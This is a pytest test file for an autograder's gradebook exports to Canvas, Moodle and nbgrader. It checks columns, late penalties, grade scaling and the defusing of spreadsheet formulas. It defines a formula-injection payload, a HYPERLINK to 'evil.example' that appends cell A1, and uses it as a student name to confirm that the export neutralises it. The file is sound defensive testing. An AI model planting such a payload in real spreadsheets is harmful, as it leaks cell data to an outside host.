"""Exports: Canvas and Moodle get the points that count, in their own columns, and no cell that a program would run."""

from __future__ import annotations

import csv
import datetime
import os

import pytest
from helpers.gradebook import DUE, add_assignment, add_submission, write
from hypothesis import example, given, settings
from hypothesis import strategies as st

from autograder.class_folder.settings import ClassError
from autograder.classroom.export import export, fill_template
from autograder.classroom.grades import class_grades
from autograder.intake.tables import defuse_formulas, read_table, write_table

EVIL = '=HYPERLINK("http://evil.example/"&A1,"click")'


@pytest.fixture
def found(folder, gradebook):
    write(folder, "class.toml", "[due]\npart05 = 2026-11-30T18:00:00\n")
    add_assignment(gradebook, "part05", {"check-5-1": 10})
    add_assignment(gradebook, "part09", {"check-9-1": 8, "written-9-5": 2})
    gradebook.add_student(
        "ann", first_name="Zo\u00eb", last_name="Garc\u00eda", email="zoe@example.org", lms_user_id="1001"
    )
    gradebook.add_student("ben", first_name="Ben, the 2nd", last_name=EVIL, email="ben@example.org")
    add_submission(gradebook, "part05", "ann", {"check-5-1": 7.5}, DUE + datetime.timedelta(hours=20))
    add_submission(gradebook, "part09", "ben", {"check-9-1": 2.0, "written-9-5": None}, DUE)
    return class_grades(folder)


def rows(path, encoding="utf-8") -> list[list[str]]:
    with open(path, encoding=encoding, newline="") as file:
        return list(csv.reader(file))


def test_canvas_gets_its_columns_and_the_points_that_count(found, tmp_path):
    outcome = export(found, tmp_path / "out")
    assert (tmp_path / "out" / "canvas.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert rows(tmp_path / "out" / "canvas.csv", "utf-8-sig") == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Part 5: The GPT", "Part 9: Understanding"],
        ["    Points Possible", "", "", "", "", "10", "10"],
        ["Garc\u00eda, Zo\u00eb", "1001", "", "ann", "", "6.75", ""],
        [f"'{EVIL}, Ben, the 2nd", "", "", "ben", "", "", "2"],
    ]
    assert outcome.remarks == ["part09: written answers of 1 are not graded yet; their points so far are exported."]


def test_moodle_gets_its_columns_without_a_mark_at_the_beginning(found, tmp_path):
    export(found, tmp_path)
    header, ann, ben = rows(tmp_path / "moodle.csv")
    assert header[:4] == ["First name", "Last name", "Username", "Email address"]
    assert ann[2:6] == ["ann", "zoe@example.org", "6.75", ""] and ben[1] == f"'{EVIL}"
    assert not (tmp_path / "moodle.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_nbgraders_table_comes_out_with_its_own_columns(found, tmp_path):
    export(found, tmp_path)
    header, *lines = rows(tmp_path / "nbgrader.csv")
    first = dict(zip(header, lines[0]))
    assert (first["student_id"], first["raw_score"], first["late_submission_penalty"]) == ("ann", "7.5", "0.75")
    assert (first["score"], first["max_score"], first["duedate"]) == ("6.75", "10", "2026-11-30 18:00:00 UTC")
    assert len(lines) == 4 and dict(zip(header, lines[1]))["score"] == "0"


CANVAS = """Student,ID,SIS User ID,SIS Login ID,Section,part 05 - The GPT (371),Quiz (372),Current Score
    Points Possible,,,,,10,5,(read only)
"Garc\u00eda, Zo\u00eb",1001,u1,zg,Monday,,4,80
"Somebody, Else",1009,u9,zz,Monday,,4,80
"Ben",1004,u4,BEN,Tuesday,3,4,80
"Student, Test",1999,,0123abc,Monday,,,
"""


def test_a_canvas_template_is_filled_in_as_its_columns_are_named(found, tmp_path):
    template = tmp_path / "template.csv"
    template.write_text(CANVAS, encoding="utf-8-sig")
    outcome = fill_template(found, template, tmp_path)
    assert outcome.files == [tmp_path / "canvas-upload.csv"]
    assert rows(tmp_path / "canvas-upload.csv", "utf-8-sig") == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "part 05 - The GPT (371)"],
        ["    Points Possible", "", "", "", "", "10"],
        ["Garc\u00eda, Zo\u00eb", "1001", "u1", "zg", "Monday", "6.75"],
        ["Ben", "1004", "u4", "BEN", "Tuesday", ""],
    ]
    assert any("part09: create these assignments" in remark for remark in outcome.remarks)
    assert any("Line 4" in remark and "is not in the gradebook" in remark for remark in outcome.remarks)
    assert not any("Test" in remark for remark in outcome.remarks)  # Canvas' own, who is nobody


WORKSHEET = """Identifier,Full name,Email address,Status,Grade,Maximum Grade,Grade can be changed,Feedback comments
Participant 77,Zo\u00eb Garc\u00eda,ZOE@example.org,Submitted for grading,,10.00,Yes,=1+1
Participant 78,Nobody Known,x@example.org,No submission,4.00,10.00,-,
Participant 79,Zo\u00eb Garc\u00eda,another@example.org,No submission,,10.00,-,
"""


def test_a_moodle_worksheet_is_filled_in_for_one_part(found, tmp_path):
    template = tmp_path / "worksheet.csv"
    template.write_text(WORKSHEET, encoding="utf-8")
    outcome = fill_template(found, template, tmp_path, "part05")
    assert outcome.files == [tmp_path / "moodle-part05-upload.csv"]
    header, zoe, nobody, namesake = rows(tmp_path / "moodle-part05-upload.csv")
    assert header == WORKSHEET.splitlines()[0].split(",")
    assert zoe[0] == "Participant 77" and zoe[4] == "6.75" and zoe[7] == "'=1+1"
    assert namesake[4] == "", "the grade of another person of this name"
    assert nobody[4] == "4" and nobody[6] == "-" and any("'Participant 78'" in remark for remark in outcome.remarks)


@pytest.mark.parametrize(
    ("text", "assignment", "said"),
    [
        (WORKSHEET, None, "is a worksheet of one assignment. Add its part"),
        (WORKSHEET.replace("10.00", "-"), "part05", "Maximum grade is '-': set the maximum of part05 on the platform"),
        (WORKSHEET.replace("Maximum Grade", "Scale"), "part05", "Maximum grade is '': set the maximum"),
        (CANVAS.replace(",10,5,", ",0,5,"), None, "Points Possible of .* is '0': set the maximum of part05"),
        (CANVAS.replace("    Points Possible,,,,,10,5,(read only)\n", ""), None, "Points Possible of .* is ''"),
        ("a,b\n1,2\n", None, "has neither the columns of Canvas"),
        (CANVAS.replace("part 05 - The GPT", "Homework"), None, "no column for any assignment"),
    ],
)
def test_a_template_that_cannot_be_filled_in_is_reported(found, tmp_path, text, assignment, said):
    (tmp_path / "template.csv").write_text(text, encoding="utf-8")
    with pytest.raises(ClassError, match=said):
        fill_template(found, tmp_path / "template.csv", tmp_path, assignment)
    assert [path.name for path in tmp_path.glob("*.csv")] == ["template.csv"]


@pytest.mark.parametrize(("most", "zoe"), [("100.00", "67.5"), ("10", "6.75"), ("15.00", "10.125"), ("5", "3.375")])
def test_grades_are_scaled_to_the_maximum_of_the_platform(found, tmp_path, most, zoe):
    (tmp_path / "w.csv").write_text(WORKSHEET.replace("10.00", most), encoding="utf-8")
    (tmp_path / "c.csv").write_text(CANVAS.replace(",10,5,", f",{most},5,"), encoding="utf-8")
    worksheet = fill_template(found, tmp_path / "w.csv", tmp_path, "part05")
    canvas = fill_template(found, tmp_path / "c.csv", tmp_path)
    assert rows(worksheet.files[0])[1][4] == zoe and rows(canvas.files[0], "utf-8-sig")[2][5] == zoe
    said = f"part05: grades are scaled from 10 points here to {float(most):g} on the platform."
    for outcome in (worksheet, canvas):
        assert (said in outcome.remarks) is (float(most) != 10)


def test_a_worksheet_gets_a_comment_where_nobody_has_written_one(found, tmp_path):
    (tmp_path / "w.csv").write_text(WORKSHEET.replace(",=1+1", ","), encoding="utf-8")
    (path,) = fill_template(found, tmp_path / "w.csv", tmp_path, "part05").files
    assert rows(path)[1][7] == "7.5 of 10 points, less 0.75 for late submission: 6.75."
    assert rows(path)[2][7] == "", "nobody knows who this is"


def test_canvas_s_row_of_posting_policies_is_no_person(found, tmp_path):
    (tmp_path / "c.csv").write_text(
        CANVAS.replace("    Points", ",,,,,Manual Posting,Manual Posting,\n    Points"), encoding="utf-8"
    )
    outcome = fill_template(found, tmp_path / "c.csv", tmp_path)
    assert not any("Line 2 " in remark for remark in outcome.remarks)


def test_an_export_is_whole_or_not_there(found, tmp_path, monkeypatch):
    export(found, tmp_path)
    before = (tmp_path / "canvas.csv").read_bytes()

    def full(descriptor):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OSError, match="No space left"):
        export(found, tmp_path)
    assert (tmp_path / "canvas.csv").read_bytes() == before
    assert sorted(path.name for path in tmp_path.glob(".new*")) == []


DANGEROUS = "=+-@\uff1d\uff0b\uff0d\uff20"


@settings(deadline=None)
@given(st.text(st.sampled_from("=+-@\t\r\n;,|'\" a1\uff1d\uff20") | st.characters(codec="utf-8"), max_size=30))
@example("=1+1")
@example("\t=1+1")
@example("\r=1+1")
@example("Lee;=1+1")
@example('"=1+1')
def test_no_cell_begins_a_formula_whatever_the_program_splits_at(text):
    safe = defuse_formulas(text)
    assert not any(character in safe for character in "\t\r\n\0")
    for separator in ";,|":
        for piece in safe.split(separator):
            assert not piece.lstrip(' "').startswith(tuple(DANGEROUS))


@settings(deadline=None)
@given(st.text(st.sampled_from("=+-@;,|'\" a1\n\t\r"), max_size=30))
def test_a_cell_that_is_written_and_read_again_is_one_cell(tmp_path_factory, text):
    path = tmp_path_factory.mktemp("cells") / "a.csv"
    write_table(path, [["one", "two"], [text, -1.5]])
    header, *rest = rows(path)
    written = text if text == "-" else defuse_formulas(text)  # Moodle's sign for nothing is not a formula
    assert rest == [[written, "-1.5"]], "numbers of ours may be negative"


@settings(deadline=None)
@given(st.text(st.characters(codec="utf-8", categories=["L", "N"]), min_size=1, max_size=20))
def test_names_without_marks_are_left_as_they_are(name):
    assert defuse_formulas(name) == name and defuse_formulas(f"{name}-{name}@{name}") == f"{name}-{name}@{name}"


def test_any_bytes_are_a_table_or_a_sentence(tmp_path):
    for content in (b"\xff\xfe\x00", b"\x00" * 50, b'a,b\n"x', b"a,b\n" + b"x" * 200_000 + b",1", bytes(range(256))):
        path = tmp_path / "t.csv"
        path.write_bytes(content)
        try:
            read_table(path)
        except ClassError as error:
            assert "t.csv" in str(error)
